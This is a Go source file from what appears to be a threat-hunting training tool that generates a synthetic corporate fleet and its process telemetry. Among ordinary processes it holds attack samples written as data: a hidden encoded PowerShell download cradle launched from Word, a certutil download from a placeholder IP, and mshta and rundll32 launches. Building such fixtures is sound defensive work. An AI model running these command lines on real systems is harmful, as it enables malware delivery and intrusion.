package localworkspace

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"github.com/footprint-soc/footprint/hunts/kql"
)

// device is a computer of the fleet.
type device struct {
	index    int
	name     string
	id       string
	ip, ip6  string
	user     string // account name; empty on a server
	dept     string
	server   bool
	admin    bool      // administrators' workstations reach servers by PowerShell
	forwards bool      // runs a log forwarder
	lastSeen time.Time // zero: reports until now
	minute   int       // of the hour at which its updater calls
}

// Devices of the stories. They exist in a fleet of any size.
const (
	financeDevice   = "WS-FIN-014"
	lateralDevice   = "WS-FIN-031"
	personnelDevice = "WS-HR-007"
	failedDevice    = "WS-OPS-102"
)

var storyDevices = []string{
	financeDevice, lateralDevice, personnelDevice, failedDevice,
	"WS-SAL-022", "WS-SAL-047", "WS-MKT-009", "WS-ENG-044", "WS-ENG-051", "WS-LEG-003", "WS-LEG-018", "WS-OPS-115", "WS-IT-001", "WS-IT-002",
}

var serverNames = []string{"SRV-DC-01", "SRV-DC-02", "SRV-DNS-01", "SRV-DNS-02", "SRV-FILE-01", "SRV-LOG-01", "SRV-LIC-01", "SRV-MGMT-01", "SRV-WEB-01", "SRV-SQL-01"}

var departments = []string{"FIN", "HR", "OPS", "ENG", "SAL", "MKT", "LEG", "IT"}

var givenNames = []string{
	"ana", "bo", "carla", "dmitri", "elif", "farid", "greta", "hugo", "ines", "jan", "kofi", "lena", "marta", "noor", "olga", "pedro",
	"quentin", "rosa", "sven", "tala", "uma", "victor", "wanda", "xavier", "yara", "zoltan",
}

var familyNames = []string{
	"sousa", "berg", "castro", "dietz", "ekman", "fischer", "greco", "haas", "ito", "jansen", "keller", "lopez", "moreau", "novak", "oliveira",
	"petit", "quist", "rossi", "santos", "tanaka", "ulrich", "vogel", "weber", "yilmaz", "zeman",
}

// silentShare is the part of the fleet whose sensor fell silent: 68 of 2010.
const silentShare = 68.0 / 2010

// makeDevices lays out the fleet: story devices, more workstations, ten servers.
func makeDevices(opts FleetOptions) []device {
	names := slices.Clone(storyDevices)
	for i := 0; len(names) < opts.Devices; i++ {
		name := fmt.Sprintf("WS-%s-%03d", departments[i%len(departments)], i/len(departments)+1)
		if !slices.Contains(storyDevices, name) {
			names = append(names, name)
		}
	}
	rng := seeded(opts.Seed, 1)
	devices := make([]device, 0, len(names)+len(serverNames))
	for i, name := range names {
		d := newDevice(i, name)
		d.dept = strings.Split(name, "-")[1]
		d.ip = fmt.Sprintf("10.%d.%d.%d", 16+slices.Index(departments, d.dept), i/200, i%200+20)
		d.ip6 = fmt.Sprintf("fd00:16::%x", i+16)
		d.user = givenNames[i%len(givenNames)] + "." + familyNames[(i/len(givenNames)+i)%len(familyNames)]
		d.admin = d.dept == "IT" && i%4 == 0 || name == "WS-IT-001" || name == "WS-IT-002"
		d.forwards = i%10 == 3
		d.minute = rng.IntN(60)
		devices = append(devices, d)
	}
	for i, name := range serverNames {
		d := newDevice(len(names)+i, name)
		d.server, d.forwards, d.dept = true, true, "SRV"
		d.ip = fmt.Sprintf("10.0.%d.%d", i/5, 10+i)
		d.ip6 = fmt.Sprintf("fd00:1::%x", 10+i)
		d.minute = rng.IntN(60)
		devices = append(devices, d)
	}
	silent := int(float64(len(devices))*silentShare + 0.5)
	for _, i := range rng.Perm(len(names) - len(storyDevices))[:silent] {
		// between 9 and 28 days ago: outside of the default window of 7 days, inside
		// of the 30 days for which DeviceInfo remembers a device
		devices[len(storyDevices)+i].lastSeen = opts.Now.Add(-9*day - time.Duration(rng.IntN(19*24*60))*time.Minute)
	}
	return devices
}

func newDevice(index int, name string) device {
	_, id, _ := fileHashes("device " + name)
	return device{index: index, name: name, id: id}
}

// program is an executable and how it was started.
type program struct {
	file, parent, folder, command, company string
	system                                 bool // runs as SYSTEM or a service, not as the user
}

var programs = map[string]program{
	"svchost.exe/update":  {"svchost.exe", "services.exe", `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\svchost.exe -k netsvcs -p -s wuauserv`, "OS Vendor", true},
	"svchost.exe/dns":     {"svchost.exe", "services.exe", `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\svchost.exe -k NetworkService -p -s Dnscache`, "OS Vendor", true},
	"lsass.exe":           {"lsass.exe", "wininit.exe", `C:\Windows\System32\lsass.exe`, `C:\Windows\System32\lsass.exe`, "OS Vendor", true},
	"splunkd.exe":         {"splunkd.exe", "services.exe", `C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe`, `"C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe" service`, "Log Vendor", true},
	"updater.exe":         {"updater.exe", "svchost.exe", `C:\Program Files\Vendor\Update\updater.exe`, `"C:\Program Files\Vendor\Update\updater.exe" --wake --system`, "Vendor Ltd", true},
	"cadapp.exe":          {"cadapp.exe", "explorer.exe", `C:\Program Files\CAD\cadapp.exe`, `"C:\Program Files\CAD\cadapp.exe"`, "CAD Vendor", false},
	"msedge.exe":          {"msedge.exe", "explorer.exe", `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default`, "OS Vendor", false},
	"chrome.exe":          {"chrome.exe", "explorer.exe", `C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe"`, "Browser Vendor", false},
	"chat.exe":            {"chat.exe", "explorer.exe", `C:\Program Files\Chat\chat.exe`, `"C:\Program Files\Chat\chat.exe" --background`, "Suite Vendor", false},
	"outlook.exe":         {"outlook.exe", "explorer.exe", `C:\Program Files\Microsoft Office\root\Office16\outlook.exe`, `"C:\Program Files\Microsoft Office\root\Office16\outlook.exe"`, "OS Vendor", false},
	"powershell.exe":      {"powershell.exe", "explorer.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -Command Enter-PSSession -ComputerName SRV-MGMT-01`, "OS Vendor", false},
	"java.exe":            {"java.exe", "services.exe", `C:\Program Files\Java\bin\java.exe`, `java.exe -Xmx2g -jar agent.jar`, "Runtime Vendor", true},
	"System":              {"System", "", "", "", "", true},
	"powershell.exe/doc":  {"powershell.exe", "winword.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, "OS Vendor", false},
	"rundll32.exe/sync":   {"rundll32.exe", "services.exe", `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\ProgramData\cdnsync\sync.dll,Start`, "OS Vendor", true},
	"mshta.exe":           {"mshta.exe", "explorer.exe", `C:\Windows\System32\mshta.exe`, `mshta.exe C:\Users\Public\Downloads\offer.hta`, "OS Vendor", false},
	"excel.exe":           {"excel.exe", "explorer.exe", `C:\Program Files\Microsoft Office\root\Office16\excel.exe`, `"C:\Program Files\Microsoft Office\root\Office16\excel.exe" /dde`, "OS Vendor", false},
	"certutil.exe":        {"certutil.exe", "cmd.exe", `C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://203.0.113.120/a.txt a.txt`, "OS Vendor", false},
	"curl.exe":            {"curl.exe", "cmd.exe", `C:\Windows\System32\curl.exe`, `curl.exe -s https://203.0.113.9/status`, "Command Vendor", false},
	"winword.exe":         {"winword.exe", "outlook.exe", `C:\Program Files\Microsoft Office\root\Office16\winword.exe`, `"C:\Program Files\Microsoft Office\root\Office16\winword.exe" /n "Invoice-7731.docm"`, "OS Vendor", false},
	"services.exe":        {"services.exe", "wininit.exe", `C:\Windows\System32\services.exe`, `C:\Windows\System32\services.exe`, "OS Vendor", true},
	"explorer.exe":        {"explorer.exe", "userinit.exe", `C:\Windows\explorer.exe`, `C:\Windows\explorer.exe`, "OS Vendor", false},
	"whoami.exe":          {"whoami.exe", "powershell.exe", `C:\Windows\System32\whoami.exe`, `whoami.exe /groups`, "OS Vendor", false},
	"excel.exe/dde":       {"excel.exe", "outlook.exe", `C:\Program Files\Microsoft Office\root\Office16\excel.exe`, `"C:\Program Files\Microsoft Office\root\Office16\excel.exe" "Invoice-7731.xlsm"`, "OS Vendor", false},
	"svchost.exe/network": {"svchost.exe", "services.exe", `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\svchost.exe -k LocalService -p`, "OS Vendor", true},
}

// fileHashes makes up the hashes of a file, in the lengths of MD5, SHA-1 and
// SHA-256.
func fileHashes(file string) (md5Text, sha1Text, sha256Text string) {
	sum := sha256.Sum256([]byte("file " + file))
	text := hex.EncodeToString(sum[:])
	return text[:32], text[10:50], text
}

// seeded is the randomness of one part of the fleet: made-up traffic, the same
// for the same seed.
func seeded(seed, part uint64) *rand.Rand {
	return rand.New(rand.NewPCG(seed, part)) //nolint:gosec // no secret is made of it
}

// initiating is the cells that say which process did it.
func (s *sheet) initiating(p program) patch {
	if p.file == "" {
		return nil
	}
	md5Text, sha1Text, sha256Text := fileHashes(p.file)
	cells := s.patch(map[string]string{
		"InitiatingProcessFileName": p.file, "InitiatingProcessParentFileName": p.parent, "InitiatingProcessFolderPath": p.folder,
		"InitiatingProcessCommandLine": p.command, "InitiatingProcessMD5": md5Text, "InitiatingProcessSHA1": sha1Text, "InitiatingProcessSHA256": sha256Text,
		"InitiatingProcessVersionInfoCompanyName": p.company, "InitiatingProcessVersionInfoOriginalFileName": p.file,
	})
	if i, ok := s.index["InitiatingProcessIntegrityLevel"]; ok {
		level := "Medium"
		if p.system {
			level = "System"
		}
		cells = append(cells, cellAt{i, kql.StringValue(level)})
	}
	return cells
}

// account is the cells that say as whom it ran.
func (s *sheet) account(d *device, p program) patch {
	if p.file == "" {
		return nil
	}
	if p.system || d.user == "" {
		return s.patch(map[string]string{"InitiatingProcessAccountDomain": "nt authority", "InitiatingProcessAccountName": "system", "InitiatingProcessAccountSid": "S-1-5-18"})
	}
	return s.patch(map[string]string{
		"InitiatingProcessAccountDomain": "corp", "InitiatingProcessAccountName": d.user, "InitiatingProcessAccountUpn": d.user + "@corp.example",
		"InitiatingProcessAccountSid": fmt.Sprintf("S-1-5-21-1004336348-1177238915-682003330-%d", 1100+d.index),
	})
}

// identity is the cells that name the device.
func (s *sheet) identity(d *device) patch {
	group := "workstations"
	if d.server {
		group = "servers"
	}
	return s.patch(map[string]string{"DeviceName": d.name, "DeviceId": d.id, "MachineGroup": group})
}
